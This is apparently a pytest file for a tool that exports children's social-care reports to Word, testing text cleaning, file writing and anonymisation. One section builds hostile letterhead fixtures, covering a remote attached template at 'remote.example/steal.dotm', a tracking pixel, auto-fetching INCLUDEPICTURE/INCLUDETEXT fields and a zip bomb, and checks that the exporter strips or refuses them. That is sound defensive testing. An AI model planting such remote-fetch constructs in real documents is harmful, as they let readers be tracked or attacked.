def test_right_to_left_paragraph_is_marked_bidi(case, library):
    child_iv = choose_interviews(case, case.children[0]).compared[0]
    child_iv.answers["breakfast"].text = "أنا جائع في الصباح"
    doc = docx_of(case, library)
    para = next(p for p in doc.paragraphs if "أنا جائع" in p.text)
    assert para._p.xpath("./w:pPr/w:bidi")


def test_characters_xml_cannot_hold_are_dropped_not_fatal(case, library):
    child_iv = choose_interviews(case, case.children[0]).compared[0]
    child_iv.answers["breakfast"].text = "bad\x00 \x07bell\x1b esc\x0c ff\ud800 tab\there\r\nnext"
    case.reference = "FICT\x01-9"
    doc = docx_of(case, library)
    assert "“bad bell esc ff tab\there\nnext”" in [p.text for p in doc.paragraphs]
    assert clean("a\x00b\x1fc\td\ne\rf") == "abc\td\ne\nf"


def test_a_5000_word_answer(case, library, tmp_path):
    long = " ".join(f"word{i}" for i in range(5000))
    child_iv = choose_interviews(case, case.children[0]).compared[0]
    child_iv.answers["breakfast"].text = long
    faces = [o.value for o in library.get("primary").feelings.options if not o.unranked]
    child_iv.answers["breakfast"].feeling = faces[-1]  # the saddest face: the summary leads with it
    path = export_report(case, case.children[0], tmp_path / "long.docx", library, today=TODAY)
    doc = docx.Document(path)
    assert f"“{long}”" in [p.text for p in doc.paragraphs]
    # given in full once; where the summary repeats it, it is shortened and says where the rest is
    again = [p.text for p in doc.paragraphs if "word0 word1" in p.text and p.style.name != "Quote"]
    assert len(again) == 1 and again[0].startswith("Breakfast: “")
    assert " ".join(f"word{i}" for i in range(40)) + " …”" in again[0] and "word40" not in again[0]
    assert "[continues under “Mimi's typical day, in her own words”]" in again[0]


# ------------------------------------------------------------------ writing the file


def test_written_atomically_and_to_a_folder(case, library, tmp_path):
    path = export_report(case, case.children[0], tmp_path, library, today=TODAY)
    assert path.parent == tmp_path and path.name == "DIML-FICT-2041-B-MF-20261201.docx"
    assert [p.name for p in tmp_path.iterdir()] == [path.name]
    docx.Document(path)  # opens


def test_missing_folder(case, library, tmp_path):
    with pytest.raises(ReportError, match="does not exist"):
        export_report(case, case.children[0], tmp_path / "nope" / "r.docx", library)


@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "disk is full"), (errno.EROFS, "read-only"),
                                         (errno.EACCES, "permission")])
def test_write_errors_leave_nothing_behind(case, library, tmp_path, monkeypatch, code, words):
    (tmp_path / "r.docx").write_bytes(b"the earlier report")

    def failing(fd):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, "fsync", failing)
    with pytest.raises(ReportError, match=words):
        export_report(case, case.children[0], tmp_path / "r.docx", library)
    assert [p.name for p in tmp_path.iterdir()] == ["r.docx"]
    assert (tmp_path / "r.docx").read_bytes() == b"the earlier report"


@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="root can write to a read-only folder")
def test_read_only_folder(case, library, tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(ReportError, match="read-only"):
            export_report(case, case.children[0], folder, library)
    finally:
        folder.chmod(0o755)


def test_report_module_imports_no_qt():
    import subprocess
    import sys

    code = ("import sys, dayinlife.report\n"
            "assert not [m for m in sys.modules if m.startswith(('PySide6', 'shiboken6'))]\n")
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60).returncode == 0


def test_chosen_interviews_only(case, library):
    child = case.children[0]
    kid, mum = choose_interviews(case, child).compared[:2]
    doc = build_document(case, child, library, ReportOptions(sections=["comparison"]), interviews=[kid, mum],
                         today=TODAY)
    assert [c.text for c in doc.tables[0].rows[0].cells] == ["Stage and what was compared", "Mimi (child)",
                                                              "Jo Fictional (mother)", "The accounts"]


def test_anonymised_and_full_exports_to_one_folder_do_not_replace_each_other(tmp_path, library):
    from dayinlife.report import ReportOptions, export_report
    from tests.test_case_interchange import build_case

    case = build_case(library)
    full = export_report(case, case.children[0], tmp_path, library)
    anon = export_report(case, case.children[0], tmp_path, library, ReportOptions(anonymise=True))
    assert full != anon and anon.name.endswith("-anon.docx") and len(anon.name) < 60
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([full.name, anon.name])


# ------------------------------------------------------------------ an untrusted base document (issue 13)

ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def hostile_base(path: Path) -> Path:
    """A letterhead whose settings attach a template on a remote address (Word would fetch it on
    opening) and whose header links a picture from the web, beside an ordinary hyperlink."""
    org_base(path)
    doc = docx.Document(str(path))
    settings = doc.part._settings_part  # (python-docx keeps it there)
    rid = settings.relate_to("http://remote.example/steal.dotm", ATTACHED, is_external=True)
    element = docx.oxml.parse_xml(f'<w:attachedTemplate xmlns:w="{docx.oxml.ns.nsmap["w"]}" '
                                  f'xmlns:r="{docx.oxml.ns.nsmap["r"]}" r:id="{rid}"/>')
    settings.element.insert(0, element)
    header = doc.sections[0].header.part
    header.relate_to("http://remote.example/pixel.png", IMAGE, is_external=True)
    header.relate_to("https://www.anyshire.example", HYPERLINK, is_external=True)
    doc.save(str(path))
    return path


def test_a_base_document_never_makes_the_report_fetch_anything(case, library, tmp_path):
    base = hostile_base(tmp_path / "hostile.docx")
    data = report_bytes(case, case.children[0], library, ReportOptions(base_document=base), today=TODAY)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        rels = "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".rels"))
        settings = z.read("word/settings.xml").decode("utf-8")
    assert "remote.example" not in rels and "attachedTemplate" not in settings
    assert "https://www.anyshire.example" in rels  # a link a reader clicks stays
    doc = docx.Document(io.BytesIO(data))
    assert "Anyshire Council" in "\n".join(p.text for p in doc.sections[0].header.paragraphs)


def test_a_zip_bomb_for_a_base_document_is_refused_quickly(case, library, tmp_path):
    import time

    good = org_base(tmp_path / "org.docx")
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            out.writestr(item, src.read(item.filename))
        out.writestr("word/media/huge.bin", b"\0" * (200 * 1024 * 1024))
    assert bomb.stat().st_size < 2 * 1024 * 1024
    started = time.monotonic()
    with pytest.raises(ReportError) as err:
        report_bytes(case, case.children[0], library, ReportOptions(base_document=bomb), today=TODAY)
    assert time.monotonic() - started < 10
    assert "far larger than any letterhead" in str(err.value)


def test_fields_in_a_base_document_that_fetch_from_elsewhere_are_removed(case, library, tmp_path):
    """INCLUDEPICTURE, INCLUDETEXT, LINK and DDE fields fetch when Word updates them (a header's
    fields update on opening): the field goes, what it last showed stays; a PAGE field stays."""
    path = org_base(tmp_path / "fields.docx")
    doc = docx.Document(str(path))
    w = docx.oxml.ns.nsmap["w"]
    header = doc.sections[0].header.paragraphs[0]._p
    header.append(docx.oxml.parse_xml(
        f'<w:fldSimple xmlns:w="{w}" w:instr=" INCLUDEPICTURE &quot;http://remote.example/a.png&quot; \\d">'
        f'<w:r><w:t>logo shown last</w:t></w:r></w:fldSimple>'))
    header.append(docx.oxml.parse_xml(f'<w:fldSimple xmlns:w="{w}" w:instr=" PAGE "><w:r><w:t>1</w:t></w:r>'
                                      f'</w:fldSimple>'))
    for xml in (f'<w:r xmlns:w="{w}"><w:fldChar w:fldCharType="begin"/></w:r>',
                f'<w:r xmlns:w="{w}"><w:instrText xml:space="preserve"> include</w:instrText></w:r>',
                f'<w:r xmlns:w="{w}"><w:instrText xml:space="preserve">TEXT "\\\\\\\\remote.example\\\\s\\\\x.docx" '
                f'</w:instrText></w:r>',
                f'<w:r xmlns:w="{w}"><w:fldChar w:fldCharType="separate"/></w:r>',
                f'<w:r xmlns:w="{w}"><w:t>text shown last</w:t></w:r>',
                f'<w:r xmlns:w="{w}"><w:fldChar w:fldCharType="end"/></w:r>'):
        header.append(docx.oxml.parse_xml(xml))
    doc.save(str(path))
    data = report_bytes(case, case.children[0], library, ReportOptions(base_document=path), today=TODAY)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
    assert "remote.example" not in xml and "INCLUDEPICTURE" not in xml and "> include<" not in xml
    assert "logo shown last" in xml and "text shown last" in xml
    assert 'w:instr=" PAGE "' in xml  # a page number is a field too, and stays


def test_the_cover_names_the_household_and_the_chronology_points_to_a_brothers_events(case, library):
    """A manager signing off Tyler's report could not see that a baby lived there, nor the baby's
    falling weight (an event about the baby alone): the cover lists the household, and the chronology
    says how many events about another child alone are in that child's own."""
    from dayinlife.chronology import Event, EventDate

    mimi, leo = case.children
    case.chronology.append(Event(EventDate(2026, 10, 2), "Weight dropping; bottle propped", source="Health visitor",
                                 child_ids=[leo.id]))
    doc = docx_of(case, library, sections=["cover", "chronology"])
    cover = {r.cells[0].text: r.cells[1].text for r in doc.tables[0].rows}
    home = cover["Mimi lives with"].split("\n")
    assert home[0].endswith("(mother)") and any(line.startswith(f"{leo.name} (aged ") for line in home)
    text = body_text(doc)
    assert "Weight dropping" not in text
    n = sum(1 for ev in case.chronology if ev.child_ids == [leo.id])
    assert f"Not listed here, as they concern another child of the household alone: {n} events about Leo" in text
    anon = body_text(docx_of(case, library, sections=["cover", "chronology"], anonymise=True))
    assert f"{n} events about Child B" in anon and "Leo" not in anon
